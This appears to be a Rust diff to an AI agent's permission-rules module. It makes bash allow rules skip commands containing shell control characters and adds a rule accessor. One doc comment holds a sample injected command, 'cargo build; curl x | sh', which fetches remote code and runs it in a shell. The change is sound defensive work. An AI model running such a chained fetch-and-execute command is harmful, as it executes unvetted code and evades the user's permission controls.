@@ -18,7 +18,11 @@
 //! `**` is the same as `*`. Patterns match the whole subject: `git *` matches
 //! `git status` but not `sudo git status`. A `bash` pattern sees the command as one
 //! string, so `rm *` does not match `cd x && rm y`: use `deny` rules as a seat belt,
-//! not as a sandbox.
+//! not as a sandbox. Conversely an `allow` rule for `bash` applies only to a plain
+//! command: one with shell control characters ([`has_shell_control`]: `;`, `&`,
+//! `|`, backticks, `$(`, `>`, `<`, line breaks) is asked about instead, so
+//! `cargo *` does not allow `cargo build; curl x | sh`. A rule whose pattern is
+//! `*` (every command) still allows such commands.
 //!
 //! An `ask` is put to the user as a runtime request and the turn waits for the
 //! answer (`crate::approvals`), unless the tool policy sets an automatic
@@ -174,6 +178,11 @@ impl PermissionRules {
         self.rules.iter().map(|r| r.rule.clone()).collect()
     }
 
+    /// The configured rule at 0-based `index`.
+    pub fn rule(&self, index: usize) -> Option<&PermissionRule> {
+        self.rules.get(index).map(|r| &r.rule)
+    }
+
     /// Whether some rule for `tool` denies or asks (so a directory walk of that
     /// tool must check each entry, `crate::tools::walker`).
     pub fn restricts(&self, tool: &str) -> bool {
@@ -202,6 +211,20 @@ impl PermissionRules {
             },
         }
     }
+}
+
+/// Characters and sequences that make a shell command more than one plain
+/// command: `;`, `&` (`&&`, background), `|`, backticks, `$(`, redirections
+/// `>` `<`, and line breaks.
+const SHELL_CONTROL: &[&str] = &[";", "&", "|", "`", "$(", ">", "<", "\n", "\r"];
+
+/// True when `command` chains, pipes, backgrounds, redirects or substitutes
+/// ([`SHELL_CONTROL`], quoted or not: the check is deliberately blunt). An
+/// `allow` rule for `bash` does not apply to such a command, which is asked
+/// about instead (`crate::tools::ToolSet::permission`), unless its pattern is
+/// `*` (it allows every command anyway); `deny` rules still apply.
+pub fn has_shell_control(command: &str) -> bool {
+    SHELL_CONTROL.iter().any(|c| command.contains(c))
 }
 
 /// The action when no rule matches: `allow` for read-only tools, `ask` for mutating ones.
